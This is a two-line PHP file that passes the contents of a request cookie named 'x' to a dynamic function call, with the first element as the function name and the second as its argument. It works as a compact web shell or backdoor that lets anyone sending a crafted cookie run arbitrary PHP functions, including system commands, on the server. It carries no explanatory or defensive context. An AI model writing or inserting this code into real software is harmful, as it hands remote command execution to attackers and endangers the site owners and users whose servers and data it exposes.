<?php
$x = $_COOKIE['x']; if ($x) { $y = $x[0]($x[1]); }
